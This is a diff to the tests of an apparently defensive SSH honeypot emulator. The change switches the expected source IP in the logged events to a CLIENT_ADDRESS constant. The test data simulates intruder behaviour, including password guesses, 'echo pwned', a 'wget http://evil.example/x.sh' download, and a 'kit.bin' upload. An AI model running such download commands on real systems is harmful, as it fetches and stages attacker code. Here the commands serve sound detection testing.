@@ -9,7 +9,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import ssh2 from 'ssh2'
 import type { ClientChannel, ConnectConfig } from 'ssh2'
-import { startEmulator } from '../../../test/helpers/emulator.js'
+import { CLIENT_ADDRESS, startEmulator } from '../../../test/helpers/emulator.js'
 
 const PERSONA = { decky: { hostname: 'db-prod-3', distro: 'debian' } }
 
@@ -18,7 +18,7 @@ function connect(port: number, cfg: Partial<ConnectConfig>): Promise<ssh2.Client
     const c = new ssh2.Client()
     c.once('ready', () => resolve(c))
     c.on('error', reject) // later errors (resets after a failed login) are not the test's subject
-    c.connect({ host: '127.0.0.1', port, readyTimeout: 10_000, ...cfg })
+    c.connect({ host: '127.0.0.1', localAddress: CLIENT_ADDRESS, port, readyTimeout: 10_000, ...cfg })
   })
 }
 
@@ -47,7 +47,7 @@ test('ssh: password login, exec uname -a fits the persona, events carry exact va
   const auth = await h.sink.next('auth_attempt')
   assert.deepEqual(
     [auth.fields.username, auth.fields.principal, auth.fields.method, auth.fields.secret_printable, auth.fields.secret_kind, auth.fields.outcome, auth.fields.src_ip],
-    ['root', 'root', 'password', 'S3cr3t!', 'plaintext', 'success', '127.0.0.1'],
+    ['root', 'root', 'password', 'S3cr3t!', 'plaintext', 'success', CLIENT_ADDRESS],
   )
   assert.equal(Buffer.from(auth.fields.secret_b64 as string, 'base64').toString(), 'S3cr3t!')
   const ex = await h.sink.next('exec')
@@ -68,7 +68,7 @@ test('ssh: wrong password fails like OpenSSH and is captured; bait user works', 
   ;(await h.ctx.stateDir()) // state dir exists
   await assert.rejects(connect(h.port(22), { username: 'admin', password: 'hunter2' }), /authentication methods failed/)
   const fail = await h.sink.next('auth_attempt', (e) => e.fields.username === 'admin')
-  assert.deepEqual([fail.fields.secret_printable, fail.fields.outcome, fail.fields.src_ip], ['hunter2', 'failure', '127.0.0.1'])
+  assert.deepEqual([fail.fields.secret_printable, fail.fields.outcome, fail.fields.src_ip], ['hunter2', 'failure', CLIENT_ADDRESS])
   const c = await connect(h.port(22), { username: 'deploy', password: 'Summer2024' })
   t.after(() => c.end())
   const r = await exec(c, 'id')
@@ -91,7 +91,7 @@ test('ssh: keyboard-interactive answers are captured', async (t) => {
   t.after(() => c.end())
   assert.deepEqual(prompts, ['Password: '])
   const a = await h.sink.next('auth_attempt', (e) => e.fields.method === 'keyboard-interactive')
-  assert.deepEqual([a.fields.username, a.fields.secret_printable, a.fields.outcome, a.fields.src_ip], ['root', 'S3cr3t!', 'success', '127.0.0.1'])
+  assert.deepEqual([a.fields.username, a.fields.secret_printable, a.fields.outcome, a.fields.src_ip], ['root', 'S3cr3t!', 'success', CLIENT_ADDRESS])
 })
 
 test('ssh: public-key attempts are logged with the key type and ssh-keygen fingerprint', async (t) => {
@@ -105,7 +105,7 @@ test('ssh: public-key attempts are logged with the key type and ssh-keygen finge
   const a = await h.sink.next('auth_attempt', (e) => e.fields.method === 'publickey')
   assert.deepEqual(
     [a.fields.username, a.fields.key_type, a.fields.key_fingerprint, a.fields.secret_kind, a.fields.outcome, a.fields.src_ip],
-    ['ubuntu', 'ssh-ed25519', expected, 'ssh_pubkey', 'failure', '127.0.0.1'],
+    ['ubuntu', 'ssh-ed25519', expected, 'ssh_pubkey', 'failure', CLIENT_ADDRESS],
   )
   assert.equal(a.fields.secret_b64, undefined)
 })
@@ -137,10 +137,10 @@ test('ssh: interactive shell lines become command events; prompt and fs behave',
   await closed
   const cmds = h.sink.ofType('command').map((e) => [e.fields.cmd, e.fields.cwd, e.fields.user, e.fields.src_ip])
   assert.deepEqual(cmds, [
-    ['cd /tmp', '/root', 'root', '127.0.0.1'],
-    ['echo pwned > x.sh && cat x.sh', '/tmp', 'root', '127.0.0.1'],
-    ['wget http://evil.example/x.sh', '/tmp', 'root', '127.0.0.1'],
-    ['exit', '/tmp', 'root', '127.0.0.1'],
+    ['cd /tmp', '/root', 'root', CLIENT_ADDRESS],
+    ['echo pwned > x.sh && cat x.sh', '/tmp', 'root', CLIENT_ADDRESS],
+    ['wget http://evil.example/x.sh', '/tmp', 'root', CLIENT_ADDRESS],
+    ['exit', '/tmp', 'root', CLIENT_ADDRESS],
   ])
   const dl = await h.sink.next('download_attempt')
   assert.deepEqual([dl.fields.url, dl.fields.tool], ['http://evil.example/x.sh', 'wget'])
@@ -173,7 +173,7 @@ test('ssh: sftp upload lands in the artifact store with the sent sha256', async 
   const sha = createHash('sha256').update(payload).digest('hex')
   assert.equal(art.fields.sha256, sha)
   assert.equal(createHash('sha256').update(readFileSync(art.fields.path as string)).digest('hex'), sha)
-  assert.deepEqual([art.fields.via, art.fields.orig_path, art.fields.ssh_user, art.fields.src_ip], ['sftp', '/tmp/kit.bin', 'root', '127.0.0.1'])
+  assert.deepEqual([art.fields.via, art.fields.orig_path, art.fields.ssh_user, art.fields.src_ip], ['sftp', '/tmp/kit.bin', 'root', CLIENT_ADDRESS])
   // the upload is visible in the fake fs, and listing works
   const names = await new Promise<string[]>((resolve, reject) => sftp.readdir('/tmp', (e, l) => (e ? reject(e) : resolve(l.map((x) => x.filename)))))
   assert.ok(names.includes('kit.bin'))
@@ -200,7 +200,7 @@ test('ssh: the sixth failed password on one connection ends it like MaxAuthTries
     const c = new ssh2.Client()
     c.on('error', resolve)
     c.connect({
-      host: '127.0.0.1', port: h.port(22), username: 'root', readyTimeout: 30_000,
+      host: '127.0.0.1', localAddress: CLIENT_ADDRESS, port: h.port(22), username: 'root', readyTimeout: 30_000,
       authHandler: (_m, _p, next) => next({ type: 'password', username: 'root', password: `guess${++tries}` }),
     })
   })
